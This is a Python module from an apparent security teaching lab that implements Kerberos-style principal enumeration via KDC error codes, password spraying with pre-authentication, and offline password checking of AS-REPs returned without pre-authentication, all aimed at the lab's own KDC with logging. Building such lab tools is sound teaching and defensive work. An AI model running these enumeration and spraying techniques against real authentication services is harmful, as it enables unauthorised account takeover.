"""Online guessing from outside the realm, as lab tools (exercise 15).

- :func:`enumerate_names` — which names exist: an AS-REQ without pre-authentication for each
  name; a KDC that answers an unknown one ``KDC_ERR_C_PRINCIPAL_UNKNOWN`` and a real one
  ``KDC_ERR_PREAUTH_REQUIRED`` (RFC 4120 §3.1.3, §7.5.9) tells them apart, unless it hides
  unknown names (``hide_unknown_principals``, :mod:`kdc.enumeration`);
- :func:`spray` — each password tried against each name, one online login per pair, the
  timestamp sealed under the key the password gives with the salt the KDC sent (RFC 4120
  §5.2.7.2): one password against many names ("spraying") stays under a lockout that counts
  failures per name (:mod:`kdc.lockout`); many against one name runs into it; a rate limit
  per client address (:mod:`kdc.ratelimit`) slows both.

Each run records in the lab's activity log what it tried and the trace events it caused.
"""

from __future__ import annotations

import os
import time
from collections.abc import Sequence
from dataclasses import dataclass

import msgspec

from labs.attacks import error_of, post_as
from labs.lab import Lab
from labs.tracefile import record_activity
from orthrus.as_exchange import ASOptions, make_as_req
from orthrus.codec import decode
from orthrus.errors import ProtocolError
from orthrus.keys import KeyUsage
from orthrus.messages import ASRep
from orthrus.principal import Principal
from orthrus.pwkdf import KDFParams, string_to_key
from orthrus.seal import open_sealed, peek_header

__all__ = ["Attempt", "enumerate_names", "spray"]

#: What an answer of the KDC means to the attacker.
_MEANING = {
    "KDC_ERR_PREAUTH_REQUIRED": "exists",
    "KDC_ERR_C_PRINCIPAL_UNKNOWN": "unknown",
    "KDC_ERR_PREAUTH_FAILED": "wrong password",
    "KDC_ERR_CLIENT_REVOKED": "locked out",
}


@dataclass(frozen=True, slots=True)
class Attempt:
    """One try of a run: the name, what the KDC answered, what that gives away, the event."""

    name: str
    outcome: str
    answer: str
    event: int | None

    def to_json(self) -> dict[str, object]:
        return {"name": self.name, "outcome": self.outcome, "answer": self.answer}


def _answer(status: int, error: dict[str, object]) -> str:
    if status == 429:
        return "HTTP 429 (rate limited)"
    return str(error.get("name") or f"HTTP {status}")


def _outcome(status: int, answer: str) -> str:
    if status == 429:
        return "rate limited"
    return _MEANING.get(answer, "error")


def enumerate_names(lab: Lab, names: Sequence[Principal]) -> list[Attempt]:
    """Ask the KDC for each name's TGT without pre-authentication; say what each answer
    gives away."""
    attempts = []
    for name in names:
        request = make_as_req(name, time.time(), os.urandom, ASOptions())
        response, event = post_as(lab, request, "enumerate")
        if response.status_code == 200:
            outcome, answer = "exists, no pre-authentication", "AS-REP"
        else:
            answer = _answer(response.status_code, error_of(response))
            outcome = _outcome(response.status_code, answer)
        attempts.append(Attempt(str(name), outcome, answer, event.id if event else None))
    _record(lab, "enumerate", attempts, [])
    return attempts


def _opens(rep: ASRep, name: Principal, password: str) -> bool:
    """Whether ``password`` opens an AS-REP asked without pre-authentication (offline)."""
    if rep.kdf is None:
        return False
    kid = peek_header(rep.enc_part).get("kid")
    kvno = int(kid) if isinstance(kid, str) and kid.isdigit() else 0
    try:
        open_sealed(
            string_to_key(password, name, rep.kdf, kvno), KeyUsage.AS_REP_ENC_PART, rep.enc_part
        )
    except ProtocolError:
        return False
    return True


def _try(lab: Lab, name: Principal, password: str) -> Attempt:
    """One online login: a probe for the salt, then the timestamp sealed under the guess."""
    response, event = post_as(lab, make_as_req(name, time.time(), os.urandom, ASOptions()), "spray")
    error = error_of(response) if response.status_code != 200 else {}
    if response.status_code == 200:  # no pre-authentication: the guess is checked offline
        found = _opens(decode(response.content, ASRep), name, password)
        outcome = "logged in (checked offline)" if found else "wrong password (checked offline)"
        return Attempt(str(name), outcome, "AS-REP", event.id if event else None)
    hint = error.get("data")
    if error.get("name") != "KDC_ERR_PREAUTH_REQUIRED" or not isinstance(hint, dict):
        answer = _answer(response.status_code, error)
        outcome = _outcome(response.status_code, answer)
        return Attempt(str(name), outcome, answer, event.id if event else None)
    try:
        params = msgspec.convert(hint.get("kdf"), KDFParams)
        kvno = int(str(hint.get("kvno")))
    except (msgspec.ValidationError, ValueError):
        return Attempt(str(name), "random key", "no KDF", event.id if event else None)
    key = string_to_key(password, name, params, kvno)
    request = make_as_req(name, time.time(), os.urandom, ASOptions(), key)
    response, event = post_as(lab, request, "spray")
    if response.status_code == 200:
        return Attempt(str(name), "logged in", "AS-REP", event.id if event else None)
    answer = _answer(response.status_code, error_of(response))
    outcome = _outcome(response.status_code, answer)
    return Attempt(str(name), outcome, answer, event.id if event else None)


def spray(lab: Lab, names: Sequence[Principal], passwords: Sequence[str]) -> list[Attempt]:
    """Try each password against each name, password by password, as a sprayer does.

    A name found, locked out or unknown is tried no more; a rate-limited run stops.
    """
    attempts: list[Attempt] = []
    done: set[str] = set()
    for password in passwords:
        for name in names:
            if str(name) in done:
                continue
            attempt = _try(lab, name, password)
            attempts.append(attempt)
            if attempt.outcome == "rate limited":
                _record(lab, "spray", attempts, passwords)
                return attempts
            if attempt.outcome not in ("wrong password", "wrong password (checked offline)"):
                done.add(str(name))
    _record(lab, "spray", attempts, passwords)
    return attempts


def _record(lab: Lab, action: str, attempts: list[Attempt], passwords: Sequence[str]) -> None:
    record_activity(
        lab.paths.activity,
        action,
        passwords=len(passwords),
        names=sorted({a.name for a in attempts}),
        events=[a.event for a in attempts if a.event is not None],
        results={a.name: a.outcome for a in attempts},
    )
